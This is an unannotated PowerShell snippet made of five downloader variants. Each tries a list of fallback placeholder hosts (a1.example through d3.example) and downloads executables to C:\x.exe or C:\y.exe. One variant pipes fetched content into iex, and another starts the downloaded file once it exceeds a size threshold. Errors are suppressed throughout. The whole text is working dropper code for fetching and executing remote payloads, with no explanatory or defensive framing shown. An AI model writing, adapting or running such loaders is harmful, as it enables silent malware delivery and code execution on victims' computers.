$u='http://a1.example/x@http://a2.example/y@http://a3.example/z'.Split('@')
foreach($i in $u){try{(New-Object Net.WebClient).DownloadFile($i,'C:\x.exe');break}catch{}}
foreach($i in 'http://b1.example/','http://b2.example/'){try{$r=iwr $i; if($r.StatusCode -eq 200){iex $r;break}}catch{continue}}
foreach($i in 'http://c1.example/','http://c2.example/'){(New-Object Net.WebClient).DownloadFile($i,'C:\y.exe');if((gi 'C:\y.exe').Length -ge 3000){start C:\y.exe;break}}
for($k=0;$k -lt 3;$k++){try{(New-Object Net.WebClient).DownloadFile(@('http://d1.example/','http://d2.example/','http://d3.example/')[$k],'C:\x.exe');return}catch{}}
